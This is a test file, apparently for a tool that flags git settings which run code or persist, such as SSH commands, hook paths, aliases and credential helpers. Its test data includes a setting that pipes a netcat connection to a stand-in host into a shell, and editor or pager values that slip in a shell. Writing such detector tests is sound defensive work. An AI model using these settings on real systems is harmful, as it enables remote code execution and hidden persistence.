"""Settings of git that run something, in commands of every form; ordinary values run nothing."""

from __future__ import annotations

import pytest

from plugseal.lang.programs.acts import acts_of
from plugseal.lang.programs.start import started
from plugseal.model.git_settings import canonical, is_ordinary, line_of, loaded_by


@pytest.mark.parametrize(
    ("setting", "line", "skip"),
    [
        ("Core.SSHCommand=nc x.example 1 | sh", "nc x.example 1 | sh", 16),
        ("core.hooksPath=.hooks", ".hooks", 15),
        ("alias.x=!touch a", "touch a", 9),
        ("filter.x.smudge=./run", "./run", 16),
        ("credential.helper=/tmp/x", "/tmp/x", 18),
        ("gpg.ssh.program=./sign", "./sign", 16),
        ("sequence.editor=./e", "./e", 16),
    ],
)
def test_line_in_a_command(setting: str, line: str, skip: int) -> None:
    _, codes = started(["git", "-c", setting, "status"])
    assert [(code.language, code.text, code.at, code.skip) for code in codes] == [("shell", line, 2, skip)]


@pytest.mark.parametrize(
    "setting",
    [
        "core.hooksPath=/dev/null", "core.fsmonitor=false", "core.hooksPath=", "alias.x=checkout",
        "credential.helper=store", "user.name=sh", "color.ui=never",
    ],
)  # fmt: skip
def test_nothing_is_run(setting: str) -> None:
    assert started(["git", "-c", setting, "status"])[1] == []


@pytest.mark.parametrize(
    ("key", "value", "persists"),
    [
        ("core.pager", "/tmp/x", True),
        ("Sequence.Editor", "./e", True),
        ("core.hooksPath", ".hooks", True),
        ("alias.co", "!make", True),
        ("core.pager", "\ufffc", None),
        ("core.pager", "cat", False),
        ("core.editor", "code --wait", False),
        ("alias.co", "checkout", False),
        ("core.hooksPath", "/dev/null", False),
        ("credential.helper", "osxkeychain", False),
        ("filter.lfs.process", "git-lfs filter-process", False),
        ("user.name", "sh", False),
    ],
)
def test_what_stays_set(key: str, value: str, persists: bool | None) -> None:
    from plugseal.lang.folded import HOLE

    acts = acts_of("git", ["config", "--global", key, value.replace("\ufffc", HOLE)])
    sure = [act.is_sure for act in acts if act.capability == "persistence"]
    assert sure == ([] if persists is False else [persists is True])


def test_further_settings() -> None:
    assert any(act.capability == "code.dynamic" for act in acts_of("git", ["-c", "Include.Path=./x", "status"]))
    assert not any(act.capability == "code.dynamic" for act in acts_of("git", ["-c", "include.path=/dev/null", "log"]))


def test_ordinary_programs_have_no_further_words() -> None:
    assert is_ordinary("vim") and is_ordinary("less -R") and is_ordinary("git-lfs clean -- %f")
    assert not is_ordinary("vim -c ':!sh'") and not is_ordinary("less; sh") and not is_ordinary("git x")


def test_keys() -> None:
    assert canonical("Filter.Some.Name.Clean") == "filter.Some.Name.clean"
    assert canonical("core") == "core."
    assert line_of("diff.a\nb.command", "x") == "x"
    assert loaded_by("includeif.gitdir:~/w/.path", "x") == "x"
    assert loaded_by("core.hookspath", "NUL") == ""
